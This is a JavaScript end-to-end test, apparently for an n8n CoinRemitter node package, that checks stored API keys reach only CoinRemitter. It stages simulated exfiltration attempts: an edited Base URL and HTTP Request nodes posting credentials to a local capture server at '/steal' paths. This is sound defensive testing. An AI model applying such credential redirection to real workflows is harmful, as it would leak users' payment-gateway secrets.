'use strict';
// Keys only to CoinRemitter, in real n8n: a credential whose Base URL was edited to another host
// sends nothing there (the package's nodes refuse it, naming the field), and n8n's HTTP Request
// node with "Predefined Credential Type" → a CoinRemitter credential sends no key anywhere: not to
// another host, not to CoinRemitter (the simulator) either. A capture server stands for the other
// host (0.0.0.0: local, but not a host the package allows), and counts requests carrying a secret.
const { createServer } = require('node:http');
const { check } = require('../../report');
const {
	CREDENTIALS,
	nodeOutput,
	workflow,
	workflowBuilder,
} = require('../../../scripts/n8n-runtime');

const SECRETS = ['sim_tcn_password', 'sim_tcn_key', 'sim_ltc_password', 'sim_ltc_key'];
const EDITED = { id: 'crE2eEditedHost1', name: 'CoinRemitter (Base URL edited to another host)' };

async function startCapture() {
	const requests = [];
	const server = createServer((req, res) => {
		let body = '';
		req.on('data', (chunk) => (body += chunk));
		req.on('end', () => {
			requests.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
			res.writeHead(200, { 'content-type': 'application/json' });
			res.end('{"success":true,"flag":1,"data":{"balance":"999.00000000"}}');
		});
	});
	await new Promise((resolve) => server.listen(0, '0.0.0.0', resolve));
	return { url: `http://0.0.0.0:${server.address().port}`, requests, server };
}

const carriesSecret = (text) => SECRETS.some((secret) => text.includes(secret));

const { coinRemitter, httpRequest, manualTrigger } = workflowBuilder({ idPrefix: 'ch-' });

/** n8n's HTTP Request node authenticating with a CoinRemitter credential (Predefined Credential Type). */
const httpWithCredential = (name, url, type, credential) =>
	httpRequest(
		name,
		{ method: 'POST', url, authentication: 'predefinedCredentialType', nodeCredentialType: type },
		{ credentials: { [type]: credential }, onError: 'continueRegularOutput', executeOnce: true },
	);

function attemptsWorkflow(simUrl, otherHost) {
	return workflow({
		id: 'crE2eKeysHosts01',
		name: 'E2E keys only to CoinRemitter',
		nodes: [
			manualTrigger(),
			coinRemitter(
				'Balance via edited credential',
				{ apiVersion: 'v1', resource: 'wallet', operation: 'getBalance' },
				EDITED,
			),
			httpWithCredential(
				'HTTP to another host',
				`${otherHost}/steal`,
				'coinRemitterApi',
				CREDENTIALS.v1,
			),
			httpWithCredential(
				'HTTP to CoinRemitter',
				`${simUrl}/v1/wallet/withdraw`,
				'coinRemitterApi',
				CREDENTIALS.v1,
			),
			httpWithCredential(
				'HTTP legacy to another host',
				`${otherHost}/steal-legacy`,
				'coinRemitterLegacyApi',
				CREDENTIALS.legacyLtc,
			),
		],
		settings: { executionOrder: 'v1' },
	});
}

/** Runs before n8n is started (`n8n execute`); the capture server stands for another host. */
async function checkCredentialHosts(instance, sim, tag) {
	const capture = await startCapture();
	try {
		await instance.importCredentials([
			{
				...EDITED,
				type: 'coinRemitterApi',
				data: { apiKey: 'sim_tcn_key', apiPassword: 'sim_tcn_password', baseUrl: capture.url },
			},
		]);
		sim.requests.length = 0;
		const run = await instance.execute(attemptsWorkflow(sim.url, capture.url));
		const edited = nodeOutput(run, 'Balance via edited credential')[0] ?? {};
		check(
			`${tag} keys: a credential whose Base URL was edited to another host is refused by the node, naming the field`,
			String(edited.error ?? '').startsWith(
				`CoinRemitter V1 API credential → Base URL: ${capture.url} is not CoinRemitter's`,
			),
			JSON.stringify(edited).slice(0, 600),
		);
		const answers = [
			'HTTP to another host',
			'HTTP to CoinRemitter',
			'HTTP legacy to another host',
		].map((name) => nodeOutput(run, name)[0] ?? {});
		check(
			`${tag} keys: n8n's HTTP Request node with a CoinRemitter credential fails (v1 and legacy, to another host and to CoinRemitter)`,
			answers.every(
				(answer) => typeof answer.error === 'string' || typeof answer.error === 'object',
			),
			JSON.stringify(answers).slice(0, 900),
		);
		const leaked = capture.requests.filter(carriesSecret);
		const toGateway = sim.requests.filter(
			(request) =>
				request.path === '/v1/wallet/withdraw' ||
				carriesSecret(JSON.stringify(request.headers ?? {})),
		);
		console.log(
			`# keys only to CoinRemitter: requests at the other host ${capture.requests.length} (carrying a secret: ${leaked.length}); HTTP Request node requests at the gateway ${toGateway.length}`,
		);
		check(
			`${tag} keys: 0 requests carrying a secret reached the other host, and the HTTP Request node reached CoinRemitter with none`,
			capture.requests.length === 0 && toGateway.length === 0,
			JSON.stringify({ capture: capture.requests, gateway: toGateway }).slice(0, 900),
		);
	} finally {
		capture.server.close();
	}
}

/** Once n8n has started: the action node offers no "Custom API Call" (no other way to the credential). */
async function checkNoCustomApiCall(instance, tag) {
	const nodes = await instance.types('nodes.json');
	const options = nodes
		.filter((node) => node.name === 'n8n-nodes-coinremitter.coinRemitter')
		.flatMap((node) => node.properties)
		.filter((property) => property.name === 'resource' || property.name === 'operation')
		.flatMap((property) => property.options ?? []);
	check(
		`${tag} keys: the CoinRemitter node offers no "Custom API Call"`,
		options.length > 0 && !options.some((option) => option.value === '__CUSTOM_API_CALL__'),
		JSON.stringify(options.map((option) => option.value)).slice(0, 600),
	);
}

module.exports = { checkCredentialHosts, checkNoCustomApiCall };
